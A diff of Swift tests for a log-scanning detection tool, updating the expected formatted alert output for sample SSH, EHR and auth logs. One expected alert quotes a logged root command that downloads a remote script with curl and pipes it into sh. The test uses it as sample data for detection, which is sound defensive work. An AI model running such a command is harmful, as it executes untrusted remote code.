@@ -238,9 +238,9 @@ import Glibc
         #expect(quiet.stderr == "")
         #expect(quiet.stdout.split(separator: "\n").count == 15)
         let always = try wardwatch(["scan", "-q", "-f", "pretty", "--color", "always", "-r", "Rules/linux", "SampleLogs/linux/secure"])
-        #expect(always.stdout.hasPrefix("2026-11-22T03:10:00Z  \u{1B}[36mLOW           \u{1B}[0m\u{1B}[1mSSH login attempt for a user that does not exist\u{1B}[0m  ehr-db01  SampleLogs/linux/secure:1  "))
+        #expect(always.stdout.hasPrefix("2026-11-22T03:10:00Z  \u{1B}[36mLOW       \u{1B}[0m\u{1B}[1mSSH login attempt for a user that d…\u{1B}[0m  ehr-db01      admin       203.0.113.50     Invalid user admin from 203.0.113.50 port 40001  (SampleLogs/linux/secure:1)\n"))
         let never = try wardwatch(["scan", "-q", "-f", "pretty", "--color", "never", "-r", "Rules/linux", "SampleLogs/linux/secure"])
-        #expect(never.stdout.hasPrefix("2026-11-22T03:10:00Z  LOW           SSH login attempt for a user that does not exist  ehr-db01  SampleLogs/linux/secure:1  "))
+        #expect(never.stdout.hasPrefix("2026-11-22T03:10:00Z  LOW       SSH login attempt for a user that d…  ehr-db01      admin       203.0.113.50     Invalid user admin from 203.0.113.50 port 40001  (SampleLogs/linux/secure:1)\n"))
         #expect(!never.stdout.contains("\u{1B}"))
         let file = try Paths.temporaryDirectory().appendingPathComponent("alerts.jsonl")
         let written = try wardwatch(["scan", "-q", "-o", file.path, "-r", "Rules/linux", "SampleLogs/linux/secure"])
@@ -383,9 +383,9 @@ import Glibc
     @Test func prettyLinesForPeople() throws {
         let run = try wardwatch(["scan", "--year", "2026", "--format", "pretty", "--min-level", "critical", "SampleLogs"])
         #expect(run.stdout == """
-            2026-11-22T03:24:39Z  CRITICAL      SSH login from an address that was guessing passwords  temporal_ordered 2 in 30m  source=203.0.113.50  2 events from SampleLogs/linux/secure byte 869
-            2026-11-22T07:10:00Z  CRITICAL      Break-glass access followed by a bulk export by the same user  temporal_ordered 2 in 1h  user=jmiller  2 events from SampleLogs/ehr/ehr-app.log byte 0
-            2026-11-22T07:36:52Z  CRITICAL      Download piped into a shell  ehr-app01  SampleLogs/linux/auth.log:18  jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh
+            2026-11-22T03:24:39Z  CRITICAL  SSH login from an address that was …  temporal_ordered 2 in 30m  source=203.0.113.50  2 events from SampleLogs/linux/secure byte 869
+            2026-11-22T07:10:00Z  CRITICAL  Break-glass access followed by a bu…  temporal_ordered 2 in 1h  user=jmiller  2 events from SampleLogs/ehr/ehr-app.log byte 0
+            2026-11-22T07:36:52Z  CRITICAL  Download piped into a shell           ehr-app01     jmiller     -                jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh  (SampleLogs/linux/auth.log:18)
 
             """)
     }
